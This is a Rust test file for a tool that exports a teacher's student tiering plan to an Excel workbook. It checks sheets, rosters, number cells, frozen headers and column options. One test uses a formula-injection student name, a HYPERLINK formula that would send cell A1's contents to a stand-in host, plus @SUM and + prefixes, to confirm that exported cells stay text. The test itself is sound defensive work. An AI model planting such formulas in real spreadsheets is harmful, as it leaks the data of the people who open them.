//! `--format xlsx`: the plan as a workbook a teacher opens in Excel or
//! Sheets, read back here with calamine: a summary, a sheet per section, a
//! sheet of every student with the CSV's cells; text that looks like a
//! formula is a text cell, never a formula.
//!
//! See: issue 13.

use calamine::{Data, Reader, Xlsx};

use crate::util::{Test, parse_csv};

/// The workbook written to `plan.xlsx` by `tierplan plan DATA -o plan.xlsx`.
fn workbook(t: &Test, data: &str, extra: &[&str]) -> Xlsx<std::io::Cursor<Vec<u8>>> {
    let mut args = vec!["plan", data, "-o", "plan.xlsx"];
    args.extend_from_slice(extra);
    t.run_with(&args).assert_stdout("");
    let bytes = std::fs::read(t.path("plan.xlsx")).unwrap();
    Xlsx::new(std::io::Cursor::new(bytes)).expect("a workbook")
}

/// A sheet's cells as the text they show.
fn texts(book: &mut Xlsx<std::io::Cursor<Vec<u8>>>, sheet: &str) -> Vec<Vec<String>> {
    let range = book.worksheet_range(sheet).unwrap();
    range
        .rows()
        .map(|row| {
            row.iter()
                .map(|c| match c {
                    Data::Empty => String::new(),
                    other => other.to_string(),
                })
                .collect()
        })
        .collect()
}

#[test]
fn the_students_sheet_holds_the_csv_plan_and_each_section_has_a_sheet() {
    let t = Test::new().quiz().file(
        "two.csv",
        "student_id,name,section,NF.1\nS1,Ann,5A,40\nS2,Bo,5B,90\nS3,Cy,5A,85\n",
    );
    // `-o plan.xlsx` chooses the format; `-f xlsx` says the same.
    let mut book = workbook(&t, "quiz.csv", &[]);
    assert_eq!(book.sheet_names(), ["Summary", "5A", "Students"]);
    let csv = t.run_with(&["plan", "quiz.csv", "-f", "csv"]).stdout;
    assert_eq!(texts(&mut book, "Students"), parse_csv(&csv, ','));
    let mut book = workbook(&t, "two.csv", &["-f", "xlsx"]);
    assert_eq!(book.sheet_names(), ["Summary", "5A", "5B", "Students"]);
    let summary = texts(&mut book, "Summary");
    assert_eq!(
        summary[0][..5],
        ["section", "students", "tier_1", "tier_2", "tier_3"]
    );
    assert_eq!(summary[1][..2], ["5A", "2"]);
    assert_eq!(summary[2][..2], ["5B", "1"]);
    // 5A's roster: Ann retaught NF.1 with her score, Cy on track.
    let roster = texts(&mut book, "5A");
    assert_eq!(roster[0][5..8], ["student_id", "name", "focus_score"]);
    let ann = roster.iter().find(|r| r[5] == "S1").expect("Ann's row");
    assert_eq!((ann[3].as_str(), ann[7].as_str()), ("NF.1", "40"));
    assert!(roster.iter().any(|r| r[5] == "S3"));
    // Scores are number cells.
    let range = book.worksheet_range("5A").unwrap();
    let score = range
        .rows()
        .find(|r| r[5] == Data::String("S1".into()))
        .unwrap()[7]
        .clone();
    assert_eq!(score, Data::Float(40.0));
    // A student in two sections is planned in each, and the summary says so.
    let t = t.file(
        "gradebook.csv",
        "student_id,name,section,NF.1\nS1,Ann,Math 7,40\nS1,Ann,ELA 7,90\nS2,Bo,Math 7,85\n",
    );
    let mut book = workbook(&t, "gradebook.csv", &[]);
    assert_eq!(texts(&mut book, "Students").len(), 4);
    let summary = texts(&mut book, "Summary");
    assert!(
        summary.iter().any(|r| r[0]
            == "Note: 1 student is in more than one section, and is planned once per section"),
        "{summary:?}"
    );
}

#[test]
fn a_hostile_name_is_text_in_every_sheet_and_no_cell_is_a_formula() {
    let hostile = "=HYPERLINK(\"http://x.test/?\"&A1,\"Ann\")";
    let t = Test::new().file(
        "class.csv",
        format!(
            "student_id,name,section,NF.1\nS1,\"{}\",@SUM(1),40\nS2,+Bo,@SUM(1),90\n",
            hostile.replace('"', "\"\"")
        ),
    );
    let mut book = workbook(&t, "class.csv", &[]);
    let names = book.sheet_names();
    for sheet in &names {
        let formulas = book.worksheet_formula(sheet).unwrap();
        assert!(
            formulas.used_cells().all(|(_, _, f)| f.is_empty()),
            "sheet {sheet} has a formula"
        );
    }
    let students = texts(&mut book, "Students");
    let ann = students.iter().find(|r| r[0] == "S1").unwrap();
    // Shown as typed: no `'` is needed in a text cell.
    assert_eq!((ann[1].as_str(), ann[2].as_str()), (hostile, "@SUM(1)"));
    assert!(names.contains(&"@SUM(1)".to_owned()), "{names:?}");
}

#[test]
fn the_header_row_is_frozen() {
    let t = Test::new().quiz();
    t.run_with(&["plan", "quiz.csv", "-o", "plan.xlsx"]);
    let bytes = std::fs::read(t.path("plan.xlsx")).unwrap();
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
    for i in 1..=3 {
        let mut xml = String::new();
        std::io::Read::read_to_string(
            &mut zip.by_name(&format!("xl/worksheets/sheet{i}.xml")).unwrap(),
            &mut xml,
        )
        .unwrap();
        assert!(
            xml.contains(
                r#"<pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" state="frozen"/>"#
            ),
            "sheet {i}: {xml}"
        );
        // Column widths fitted to their text.
        assert!(xml.contains("<cols>"), "sheet {i}");
    }
}

#[test]
fn columns_choose_the_students_sheet_and_only_csv_and_xlsx_take_them() {
    let t = Test::new().quiz();
    let mut book = workbook(&t, "quiz.csv", &["--columns", "student_id,tier"]);
    let students = texts(&mut book, "Students");
    assert_eq!(students[0], ["student_id", "tier"]);
    assert_eq!(students.len(), 29);
    t.status(2)
        .run_with(&["plan", "quiz.csv", "-f", "markdown", "--columns", "tier"])
        .assert_stderr_contains("`--columns` applies to `--format csv` and `--format xlsx` only");
}
